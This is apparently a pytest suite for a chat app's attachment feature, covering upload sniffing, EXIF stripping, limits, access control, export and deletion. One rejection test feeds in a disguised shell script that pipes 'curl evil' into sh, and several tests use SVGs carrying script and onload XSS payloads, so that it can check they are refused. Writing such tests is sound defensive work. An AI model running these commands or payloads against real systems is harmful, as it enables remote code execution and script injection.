"""Attachments in-process: upload, type sniffing, limits, access, prompts that carry files,
export and deletion."""

from __future__ import annotations

import base64
import io

import pytest
from sqlalchemy import func, select

from llm.catalog import parse_models
from models import Message, db
from models.uploads import Blob, MessageUpload, Upload

from .conftest import JSON, csrf_of, made_app, new_thread
from .files import jpeg_with_exif, pdf, png


def upload(client, token: str, name: str, data: bytes):
    return client.post("/uploads", data={"file": (io.BytesIO(data), name)},
                       headers={"X-CSRF-Token": token, **JSON},
                       content_type="multipart/form-data")


def uploaded(client, token: str, name: str, data: bytes) -> dict:
    response = upload(client, token, name, data)
    assert response.status_code == 201, response.text
    return response.json


def post(client, token: str, thread_id: int, content: str, attachments: list) -> object:
    return client.post(f"/threads/{thread_id}/messages",
                       json={"content": content, "attachments": attachments},
                       headers={"X-CSRF-Token": token, **JSON})


def count(model) -> int:
    db.session.expire_all()
    return db.session.scalar(select(func.count()).select_from(model))


@pytest.fixture(autouse=True)
def _database(app):
    """The test's own reads of the database (the requests have their own contexts)."""
    with app.app_context():
        yield


# -- upload and type sniffing ------------------------------------------------------------------
def test_an_image_is_stored_reencoded_without_metadata_and_served_with_its_type(client, token):
    body = uploaded(client, token, "photo.png", png(40, 30, Secret="where I live"))
    assert set(body) >= {"id", "name", "type", "size"}
    assert body["name"] == "photo.png" and body["type"] == "image/png" and body["size"] > 0
    served = client.get(f"/uploads/{body['id']}")
    assert served.status_code == 200
    assert served.headers["Content-Type"] == "image/png"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Disposition"].startswith("inline")
    assert served.data.startswith(b"\x89PNG") and b"where I live" not in served.data
    assert len(served.data) == body["size"]


def test_a_jpeg_loses_its_exif(client, token):
    original = jpeg_with_exif()
    assert b"SecretCam" in original
    body = uploaded(client, token, "cam.jpg", original)
    data = client.get(f"/uploads/{body['id']}").data
    assert body["type"] == "image/jpeg" and b"SecretCam" not in data and b"Exif" not in data


def test_a_png_named_pdf_is_stored_as_a_png(client, token):
    body = uploaded(client, token, "report.pdf", png())
    assert body["type"] == "image/png" and body["name"] == "report.png"
    assert client.get(f"/uploads/{body['id']}").headers["Content-Type"] == "image/png"


@pytest.mark.parametrize("name, data, status", [
    ("innocent.png", b"#!/bin/sh\ncurl evil | sh\n", 415),
    ("empty.txt", b"", 400),
    ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
     415),
    ("notes.txt", b'<?xml version="1.0"?>\n<svg onload="alert(1)"></svg>', 415),
    ("blob.bin", bytes(range(256)) * 4, 415),
    ("broken.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 40, 415),
])
def test_files_that_are_not_what_relay_reads_are_refused_with_a_message(client, token, name,
                                                                        data, status):
    response = upload(client, token, name, data)
    assert response.status_code == status
    assert response.is_json and response.json["message"]
    assert count(Upload) == 0 and count(Blob) == 0


def test_a_missing_file_field_is_a_400(client, token):
    response = client.post("/uploads", data={"other": "x"},
                           headers={"X-CSRF-Token": token, **JSON})
    assert response.status_code == 400 and "file" in response.json["message"]


def test_an_upload_needs_the_csrf_token(client, token):
    response = client.post("/uploads", data={"file": (io.BytesIO(png()), "a.png")},
                           headers=JSON, content_type="multipart/form-data")
    assert response.status_code == 403


def test_a_file_over_upload_max_mb_is_a_413_with_a_message(tmp_path):
    with made_app(tmp_path, UPLOAD_MAX_MB=0.01) as app:
        client = app.test_client()
        token = csrf_of(client)
        response = upload(client, token, "big.txt", b"a" * 11_000)
        assert response.status_code == 413 and "0.01 MB" in response.json["message"]
        # Past the body limit itself (the form and its slack), refused before it is read.
        response = upload(client, token, "bigger.txt", b"a" * 200_000)
        assert response.status_code == 413 and "MB" in response.json["message"]
        assert upload(client, token, "small.txt", b"a" * 9_000).status_code == 201
        # Other endpoints keep their own limit.
        thread = new_thread(client, token)
        assert post(client, token, thread, "x" * 300_000, []).status_code == 413


def test_a_20_mb_default_takes_a_file_larger_than_the_request_limit(client, token, app):
    data = b"line of text\n" * 40_000  # ~520 KB, over MAX_REQUEST_BYTES (256 KB)
    assert len(data) > app.config["MAX_CONTENT_LENGTH"]
    assert uploaded(client, token, "long.txt", data)["size"] == len(data)


def test_a_large_image_is_sent_to_models_as_a_smaller_copy(client, token, thread_id):
    from PIL import Image

    from streaming.history import build_history

    body = uploaded(client, token, "wide.png", png(3000, 300))
    stored = db.session.get(Upload, body["id"])
    assert stored.model_type == "image/jpeg" and stored.model_sha256 != stored.sha256
    turn = post(client, token, thread_id, "wide", [body["id"]]).json
    reply = db.session.get(Message, turn["assistant_message"]["id"])
    [prompt] = build_history(db.session, reply, system_prompt=None, limit=10,
                             attachments=True)
    [image] = prompt["attachments"]
    assert image.type == "image/jpeg" and (image.width, image.height) == (3000, 300)
    assert Image.open(io.BytesIO(image.data)).size == (2048, 205)
    # The person still gets the image they sent; the page's thumbnail is the copy.
    assert client.get(f"/uploads/{body['id']}").headers["Content-Type"] == "image/png"
    preview = client.get(f"/uploads/{body['id']}?preview=1")
    assert preview.headers["Content-Type"] == "image/jpeg" and preview.data == image.data
    assert f'src="/uploads/{body["id"]}?preview=1"' in client.get(f"/threads/{thread_id}").text
    # Deleting the thread deletes both.
    client.post(f"/threads/{thread_id}/delete", headers={"X-CSRF-Token": token, **JSON})
    assert count(Blob) == 0 and count(Upload) == 0


def test_the_same_bytes_are_stored_once(client, token, stranger):
    first = uploaded(client, token, "a.png", png())
    second = uploaded(stranger, csrf_of(stranger), "b.png", png())
    assert first["id"] != second["id"]
    assert count(Blob) == 1 and count(Upload) == 2


# -- documents ---------------------------------------------------------------------------------
def test_a_pdfs_text_is_extracted_and_counted(client, token):
    body = uploaded(client, token, "minutes.pdf", pdf("Quarterly minutes", "Budget approved"))
    assert body["type"] == "application/pdf" and body["tokens"] > 0
    stored = db.session.get(Upload, body["id"])
    assert "Quarterly minutes" in stored.text and "Budget approved" in stored.text
    served = client.get(f"/uploads/{body['id']}")
    assert served.headers["Content-Disposition"].startswith("attachment")
    assert served.headers["Content-Type"] == "application/pdf"


def test_a_broken_pdf_is_a_400(client, token):
    response = upload(client, token, "bad.pdf", b"%PDF-1.4\nnot really a pdf\n")
    assert response.status_code == 400 and "PDF" in response.json["message"]


def test_text_files_keep_their_type_by_extension_and_are_served_as_downloads(client, token):
    body = uploaded(client, token, "data.csv", b"a,b\n1,2\n")
    assert body["type"] == "text/csv" and body["tokens"] == 2
    served = client.get(f"/uploads/{body['id']}")
    assert served.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert served.headers["Content-Disposition"].startswith("attachment")
    assert uploaded(client, token, "main.py", b"print('hi')\n")["type"] == "text/plain"


# -- prompts with attachments ------------------------------------------------------------------
def test_a_prompt_carries_its_files_and_the_demo_model_acknowledges_them(client, token,
                                                                          thread_id):
    image = uploaded(client, token, "photo.png", png(80, 60))
    doc = uploaded(client, token, "notes.pdf", pdf("Remember the milk"))
    response = post(client, token, thread_id, "What is in these?", [image["id"], doc["id"]])
    assert response.status_code == 201, response.text
    user = response.json["user_message"]
    assert [a["id"] for a in user["attachments"]] == [image["id"], doc["id"]]
    assert user["attachments"][0] == {"id": image["id"], "name": "photo.png",
                                      "type": "image/png", "size": image["size"]}
    assert response.json["assistant_message"]["attachments"] == []
    assert b"event: done" in client.get(response.json["stream_url"]).data
    reply = client.get(f"/messages/{response.json['assistant_message']['id']}", headers=JSON)
    assert "You attached: photo\\.png (image, 80×60), notes\\.pdf (PDF, 17 characters)." \
        in reply.json["content"]
    # The page shows the thumbnail from this origin, and the PDF as a download.
    page = client.get(f"/threads/{thread_id}").text
    assert f'<img src="/uploads/{image["id"]}"' in page
    assert f'href="/uploads/{doc["id"]}" download="notes.pdf"' in page
    assert "You attached: photo.png (image, 80×60)" in page


def test_attachments_as_repeated_form_fields(client, token, thread_id):
    first = uploaded(client, token, "a.txt", b"alpha")
    second = uploaded(client, token, "b.txt", b"beta")
    response = client.post(f"/threads/{thread_id}/messages",
                           data={"content": "two files", "attachments": [first["id"],
                                                                         second["id"]]},
                           headers={"X-CSRF-Token": token, **JSON})
    assert response.status_code == 201
    assert [a["name"] for a in response.json["user_message"]["attachments"]] == ["a.txt",
                                                                                "b.txt"]


@pytest.mark.parametrize("attachments", [[999999], ["abc"], "7", [True], [{"id": 1}]])
def test_unknown_or_malformed_attachments_are_a_400_and_nothing_is_made(client, token,
                                                                       thread_id, attachments):
    response = post(client, token, thread_id, "hello", attachments)
    assert response.status_code == 400 and response.json["message"]
    assert count(Message) == 0 and count(MessageUpload) == 0


def test_another_owners_upload_cannot_be_attached(client, token, thread_id, stranger):
    theirs = uploaded(stranger, csrf_of(stranger), "theirs.png", png())
    response = post(client, token, thread_id, "hello", [theirs["id"]])
    assert response.status_code == 400 and str(theirs["id"]) in response.json["message"]
    assert count(Message) == 0


def test_more_than_upload_max_files_is_a_400(tmp_path):
    with made_app(tmp_path, UPLOAD_MAX_FILES=2) as app:
        client = app.test_client()
        token = csrf_of(client)
        thread = new_thread(client, token)
        ids = [uploaded(client, token, f"{i}.txt", f"file {i}".encode())["id"]
               for i in range(3)]
        response = post(client, token, thread, "three", ids)
        assert response.status_code == 400 and "at most 2" in response.json["message"]
        with app.app_context():
            assert count(Message) == 0
        assert post(client, token, thread, "two", ids[:2]).status_code == 201


def test_files_over_the_models_context_are_refused_before_sending(tmp_path):
    with made_app(tmp_path, CONTEXT_TOKENS=1000) as app:
        client = app.test_client()
        token = csrf_of(client)
        thread = new_thread(client, token)
        big = uploaded(client, token, "big.md", b"word " * 1000)
        assert big["tokens"] == 1250
        response = post(client, token, thread, "summarise", [big["id"]])
        assert response.status_code == 413
        assert "1,000" in response.json["message"] and "1,253" in response.json["message"]
        with app.app_context():
            assert count(Message) == 0


def test_a_model_without_vision_refuses_images_but_reads_documents(tmp_path):
    with made_app(tmp_path, CHAT_MODELS="demo;no-vision") as app:
        client = app.test_client()
        token = csrf_of(client)
        thread = new_thread(client, token)
        image = uploaded(client, token, "photo.png", png())
        response = post(client, token, thread, "look", [image["id"]])
        assert response.status_code == 400 and "cannot read images" in response.json["message"]
        doc = uploaded(client, token, "a.txt", b"text")
        assert post(client, token, thread, "read", [doc["id"]]).status_code == 201


def test_models_carry_vision_and_context(tmp_path):
    with made_app(tmp_path, CHAT_MODELS="demo;context=32000=Offline,demo:other;no-vision=Other",
                  CONTEXT_TOKENS=64000) as app:
        models = app.test_client().get("/models").json
        assert [(m["label"], m["vision"], m["context"]) for m in models] == [
            ("Offline", True, 32000), ("Other", False, 64000)]


def test_chat_models_flags_parse_and_the_old_format_still_works():
    assert parse_models("openai:gpt-4o=GPT 4o")[0].label == "GPT 4o"
    entry = parse_models("openai:gpt-4o;vision;context=128000=GPT-4o")[0]
    assert (entry.model, entry.vision, entry.context, entry.label) == (
        "gpt-4o", True, 128000, "GPT-4o")
    entry = parse_models("openai:llama3=Llama 3;no-vision")[0]
    assert (entry.model, entry.vision, entry.context, entry.label) == (
        "llama3", False, None, "Llama 3")
    for bad in ("openai:x;context=lots", "openai:x;colour"):
        with pytest.raises(ValueError):
            parse_models(bad)


def test_regenerate_and_edit_still_send_the_files(client, token, thread_id):
    image = uploaded(client, token, "photo.png", png(20, 10))
    turn = post(client, token, thread_id, "first", [image["id"]]).json
    assert b"event: done" in client.get(turn["stream_url"]).data
    again = client.post(f"/messages/{turn['assistant_message']['id']}/regenerate",
                        headers={"X-CSRF-Token": token, **JSON})
    assert again.status_code == 201, again.text
    again = again.json
    assert b"event: done" in client.get(again["stream_url"]).data
    text = client.get(f"/messages/{again['message']['id']}", headers=JSON).json["content"]
    assert "You attached: photo\\.png" in text
    edited = client.post(f"/messages/{turn['user_message']['id']}/edit",
                         json={"content": "first, edited"},
                         headers={"X-CSRF-Token": token, **JSON}).json
    assert [a["id"] for a in edited["user_message"]["attachments"]] == [image["id"]]
    assert b"event: done" in client.get(edited["stream_url"]).data
    text = client.get(f"/messages/{edited['assistant_message']['id']}",
                      headers=JSON).json["content"]
    assert "You attached: photo\\.png" in text


# -- who may read a file -----------------------------------------------------------------------
def test_another_owner_gets_404_and_a_share_viewer_sees_only_the_shared_threads_files(
        app, client, token, thread_id, stranger):
    shared = uploaded(client, token, "shared.png", png(color=(1, 2, 3)))
    private = uploaded(client, token, "private.png", png(color=(4, 5, 6)))
    other_thread = new_thread(client, token)
    assert post(client, token, thread_id, "shared one", [shared["id"]]).status_code == 201
    assert post(client, token, other_thread, "private one", [private["id"]]).status_code == 201
    for file in (shared, private):
        assert stranger.get(f"/uploads/{file['id']}").status_code == 404
    link = client.post(f"/threads/{thread_id}/share",
                       headers={"X-CSRF-Token": token, **JSON}).json["share_url"]
    viewer = app.test_client()
    assert viewer.get("/" + link.split("/", 3)[3]).status_code == 200
    assert viewer.get(f"/uploads/{shared['id']}").status_code == 200
    assert viewer.get(f"/uploads/{private['id']}").status_code == 404
    assert stranger.get(f"/uploads/{shared['id']}").status_code == 404
    client.post(f"/threads/{thread_id}/share/revoke", headers={"X-CSRF-Token": token, **JSON})
    assert viewer.get(f"/uploads/{shared['id']}").status_code == 404
    assert client.get("/uploads/999999").status_code == 404


# -- export and deletion -----------------------------------------------------------------------
def test_the_json_export_carries_the_files_and_markdown_names_them(client, token, thread_id):
    image = uploaded(client, token, "photo.png", png())
    post(client, token, thread_id, "with a file", [image["id"]])
    export = client.get(f"/threads/{thread_id}/export?format=json").json
    user = next(m for m in export["messages"] if m["role"] == "user")
    [file] = user["attachments"]
    assert file["name"] == "photo.png" and file["type"] == "image/png"
    assert base64.b64decode(file["data"]) == client.get(f"/uploads/{image['id']}").data
    markdown = client.get(f"/threads/{thread_id}/export?format=md").text
    assert "Attachment: photo.png (image/png" in markdown


def test_an_imported_export_brings_its_files_back(client, token, thread_id, stranger):
    image = uploaded(client, token, "photo.png", png(color=(3, 3, 3)))
    post(client, token, thread_id, "with a file", [image["id"]])
    export = client.get(f"/threads/{thread_id}/export?format=json").data
    stranger_token = csrf_of(stranger)
    imported = stranger.post("/threads/import", data={"file": (io.BytesIO(export), "t.json")},
                             headers={"X-CSRF-Token": stranger_token, **JSON},
                             content_type="multipart/form-data")
    assert imported.status_code == 201, imported.text
    thread = stranger.get(f"/threads/{imported.json['thread']['id']}", headers=JSON).json
    [user] = [m for m in thread["messages"] if m["role"] == "user"]
    [file] = user["attachments"]
    assert file["name"] == "photo.png" and file["id"] != image["id"]
    assert stranger.get(f"/uploads/{file['id']}").data == client.get(
        f"/uploads/{image['id']}").data
    assert count(Blob) == 1  # the same bytes, stored once


def test_an_import_with_a_file_relay_refuses_is_a_400(client, token):
    export = {"format": "relay.thread", "version": 1, "thread": {"title": "x"},
              "messages": [{"role": "user", "content": "hi", "attachments": [
                  {"name": "a.svg", "data": base64.b64encode(b"<svg onload=x>").decode()}]}]}
    answer = client.post("/threads/import", json=export,
                         headers={"X-CSRF-Token": token, **JSON})
    assert answer.status_code == 400 and "a.svg" in answer.json["message"]
    assert count(Upload) == 0 and count(Message) == 0


def test_deleting_a_thread_deletes_the_files_nothing_else_uses(client, token, thread_id):
    only_here = uploaded(client, token, "only.png", png(color=(9, 9, 9)))
    also_elsewhere = uploaded(client, token, "both.png", png(color=(7, 7, 7)))
    pending = uploaded(client, token, "pending.txt", b"not sent yet")
    other = new_thread(client, token)
    post(client, token, thread_id, "one", [only_here["id"], also_elsewhere["id"]])
    post(client, token, other, "two", [also_elsewhere["id"]])
    assert client.post(f"/threads/{thread_id}/delete",
                       headers={"X-CSRF-Token": token, **JSON}).status_code == 200
    db.session.expire_all()
    assert db.session.get(Upload, only_here["id"]) is None
    assert db.session.get(Upload, also_elsewhere["id"]) is not None
    assert db.session.get(Upload, pending["id"]) is not None
    assert count(Blob) == 2
    assert client.get(f"/uploads/{also_elsewhere['id']}").status_code == 200


def test_uploads_made_anonymously_move_with_the_claimed_threads(tmp_path):
    from .test_accounts import signup

    with made_app(tmp_path, AUTH_MODE="anonymous", SIGNUP="open") as app:
        client = app.test_client()
        token = csrf_of(client)
        thread = new_thread(client, token)
        sent = uploaded(client, token, "sent.png", png(color=(1, 1, 1)))
        pending = uploaded(client, token, "pending.txt", b"not sent yet")
        assert post(client, token, thread, "with a file", [sent["id"]]).status_code == 201
        app.config["AUTH_MODE"] = "accounts"
        signup(client, "ann")
        client.post("/account/claim", headers={"X-CSRF-Token": csrf_of(client), **JSON})
        assert client.get(f"/uploads/{sent['id']}").status_code == 200
        # A file uploaded before signing in can still be attached.
        other = new_thread(client, csrf_of(client))
        assert post(client, csrf_of(client), other, "now", [pending["id"]]).status_code == 201
